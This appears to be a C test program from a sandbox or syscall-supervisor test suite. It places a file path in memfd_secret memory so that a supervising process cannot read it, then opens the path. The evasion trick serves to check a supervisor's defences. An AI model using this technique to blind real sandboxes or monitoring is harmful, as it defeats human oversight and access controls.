/* SPDX-License-Identifier: GPL-3.0-or-later */
/* memfd_secret: the kernel reads the path there for us, a supervisor cannot. */
#include "attack.h"

int main(void)
{
        int fd = (int) syscall(447, O_CLOEXEC);
        char *page;

        if (fd < 0 || ftruncate(fd, 4096) < 0)
                nothing_to_win("kernel", "no memfd_secret");
        page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (page == MAP_FAILED)
                nothing_to_win("machine", "no locked memory for us");
        strcpy(page, secret_path());
        deed_open(page);
        return 0;
}
